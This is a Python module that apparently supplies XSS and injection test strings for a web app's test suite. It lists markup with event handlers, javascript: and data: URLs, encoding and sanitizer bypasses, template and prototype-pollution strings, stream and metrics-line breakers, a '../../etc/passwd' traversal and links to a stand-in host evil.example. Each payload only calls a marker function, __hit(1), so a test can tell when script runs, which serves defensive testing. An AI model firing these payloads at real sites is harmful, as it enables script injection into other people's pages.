"""Texts that want to be more than text: markup, scripts, styles, templates and breakers of what they are written into.

Each that could run anything calls ``__hit``, and each that could make an element gives it the attribute ``data-p``.
"""

from __future__ import annotations

HIT = "__hit(1)"

#: Ways to begin, out of what the text might stand in.
ESCAPES = ("", '">', "'>", "-->", "]]>", "</textarea>", "</title></style>", "</script>", "</template>", "</svg>", "`}")

#: Elements that run something by themselves.
MARKUP = (
    f"<script data-p>{HIT}</script>",
    '<script data-p src="data:text/javascript,__hit(1)"></script>',
    f"<img data-p src=x onerror={HIT}>",
    f"<svg data-p onload={HIT}></svg>",
    f"<svg data-p><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<svg data-p><script>{HIT}</script></svg>",
    f"<svg data-p><foreignObject><iframe onload={HIT}></foreignObject></svg>",
    '<svg data-p><use href="data:image/svg+xml,<svg id=x onload=__hit(1)>#x"></svg>',
    '<math data-p><mtext><a href="javascript:__hit(1)">x</a></mtext></math>',
    f"<iframe data-p srcdoc='<script>parent.{HIT}</script>'></iframe>",
    "<iframe data-p src='javascript:parent.__hit(1)'></iframe>",
    f"<template data-p><img src=x onerror={HIT}></template>",
    f"<details data-p open ontoggle={HIT}>x</details>",
    f"<body data-p onload={HIT}>",
    f"<input data-p autofocus onfocus={HIT}>",
    f"<video data-p><source onerror={HIT}></video>",
    f"<audio data-p src=x onerror={HIT}></audio>",
    f"<object data-p data='javascript:{HIT}'></object>",
    f"<embed data-p src='javascript:{HIT}'>",
    f"<marquee data-p onstart={HIT}>x</marquee>",
    "<base data-p href='//evil.example/'>",
    "<link data-p rel=stylesheet href='//evil.example/a.css'>",
    "<meta data-p http-equiv=refresh content='0;url=javascript:__hit(1)'>",
    "<form data-p action='javascript:__hit(1)'><button>x</button></form>",
    f"<style data-p onload={HIT}>*{{display:none}}</style>",
    f"<b data-p onmouseover={HIT}>x</b>",
)

#: Events that elements wait for.
EVENTS = (
    *("onclick", "onmouseenter", "onmouseover", "onpointerover", "onfocus", "onblur", "oninput", "onkeydown", "onscroll"),
    *("onanimationstart", "ontransitionend", "onwheel", "oncopy", "ondragstart", "onresize", "onpageshow", "onhashchange"),
)

#: Addresses that are none.
ADDRESSES = (
    "javascript:__hit(1)",
    "JaVaScRiPt:__hit(1)",
    "java\tscript:__hit(1)",
    "&#106;avascript:__hit(1)",
    "javascript&colon;__hit(1)",
    "\x01javascript:__hit(1)",
    "data:text/html,<script>parent.__hit(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5fX2hpdCgxKTwvc2NyaXB0Pg==",
    "vbscript:__hit(1)",
    "//evil.example/",
    "blob:null/x",
)

#: Written so that somebody who decodes, or normalizes, makes markup of it.
ENCODED = (
    "&lt;img data-p src=x onerror=__hit(1)&gt;",
    "&#60;img data-p src=x onerror=__hit(1)&#62;",
    "&#x3c;img data-p src=x onerror=__hit(1)&#x3e;",
    "&amp;lt;img data-p src=x onerror=__hit(1)&amp;gt;",
    "%3Cimg data-p src=x onerror=__hit(1)%3E",
    r"\u003cimg data-p src=x onerror=__hit(1)\u003e",
    r"\x3cimg data-p src=x onerror=__hit(1)\x3e",
    "＜img data-p src=x onerror=__hit(1)＞",
    "‹img data-p src=x onerror=__hit(1)›",
    "<\x00img data-p src=x onerror=__hit(1)>",
    "<im\x00g data-p src=x onerror=__hit(1)>",
    "<img/data-p/src=x/onerror=__hit(1)>",
    "<img\ndata-p\nsrc=x\nonerror=__hit(1)>",
    "<img\u2028data-p src=x onerror=__hit(1)>",
    "<IMG DATA-P SRC=x ONERROR=__hit(1)>",
    "<<img data-p src=x onerror=__hit(1)>",
    "<img data-p src=x onerror=__hit(1) ",
    "<img data-p src=x onerror=&#95;&#95;hit&#40;1&#41;>",
    "<noscript><p title='</noscript><img data-p src=x onerror=__hit(1)>'>",
    "<math><mi><table><mglyph><style><!--</style><img data-p src=x onerror=__hit(1)>",
    "+ADw-img data-p src=x onerror=__hit(1)+AD4-",
    "\u202e<img data-p src=x onerror=__hit(1)>\u202c",
)

#: What charts take for markup, for templates, or for numbers.
PLOTLY = (
    "<a data-p href='javascript:__hit(1)'>x</a>",
    "<a href='javascript:__hit(1)' target='_top'>x</a>",
    "<a href='https://evil.example/'>x</a>",
    "<a href='data:text/html,<script>__hit(1)</script>' style='color:red'>x</a>",
    "<b>bold</b>",
    "<i>slanted</i> <em>x</em>",
    "<sub>low</sub><sup>high</sup>",
    "one<br>two<br/>three",
    "<span style='font-size:99px;color:red'>large</span>",
    "<s>struck</s><u>under</u>",
    "%{x} %{y} %{meta.last} %{customdata[0]}",
    "%{fullData.name}<extra>%{label}</extra>",
    "%{y:__hit(1)}",
    "%{x|%Y}<extra></extra>",
    "%{text}%{xother}%%{y}",
    "$\\href{javascript:__hit(1)}{x}$",
    "$\\unicode{<img data-p src=x onerror=__hit(1)>}$",
    "&lt;a href='javascript:__hit(1)'&gt;x&lt;/a&gt;",
    "<extra>__hit(1)</extra>",
)

#: What would end the JSON, the event or the script that it is written into.
BREAKERS = (
    '"}],"run":"x","x":[{"y":"',
    '\\"}; __hit(1); //',
    "\\",
    "\\u0022}",
    "'; __hit(1); //",
    "`${__hit(1)}`",
    "${__hit(1)} {{__hit(1)}} #{__hit(1)} <%= __hit(1) %>",
    "{{constructor.constructor('__hit(1)')()}}",
    "__proto__",
    "constructor",
    "toString",
    '{"__proto__":{"hidden":true}}',
    "a\n\ndata: __hit(1)\n\n",
    "a\r\rdata: {}\r\r",
    "a\r\n\r\nevent: message\r\ndata: null\r\n\r\n",
    "a\nid: 0\nretry: 1\n",
    ": comment\n\n",
    "a\u2028__hit(1)\u2029",
    "\ufeffa",
    "\x00",
    "a\x00b\x1b[31m\x07\x7f\x85",
    "\ud800",
    "\udcff a \udc80",
    "\udfff\ud83d",
    "\U0001f4a5\u0301\u200d\ufe0f",
    "\u202e backwards \u2066",
    'streamlab_build_info{x="y"} 1\n',
    '"} 1\n# TYPE hit counter\nhit 1\n',
    "null",
    "NaN",
    "-1e999",
    "../../etc/passwd",
    "?focus=__hit(1)&limit=0#x",
    "*{background:url(//evil.example/)}",
    "</style><style data-p>*{display:none}</style>",
    "expression(__hit(1))",
    "a;} body{display:none} .x{",
    "x" * 5000 + "<img data-p src=x onerror=__hit(1)>",
)


def payloads() -> list[str]:
    """Return all of them, each one once."""
    escaped = [f"{escape}{MARKUP[at % len(MARKUP)]}" for escape in ESCAPES for at in range(len(escape), len(escape) + 5)]
    waiting = [
        f"<p data-p {event}={HIT} tabindex=0 contenteditable style='position:fixed;inset:0'>x</p>" for event in EVENTS
    ]
    broken_out = [f'" {event}="{HIT}" data-p x="' for event in EVENTS[:6]]
    linked = [f'<a data-p href="{address}" autofocus>x</a>' for address in ADDRESSES]
    everything = [*MARKUP, *escaped, *waiting, *broken_out, *ADDRESSES, *linked, *ENCODED, *PLOTLY, *BREAKERS]
    return list(dict.fromkeys(everything))
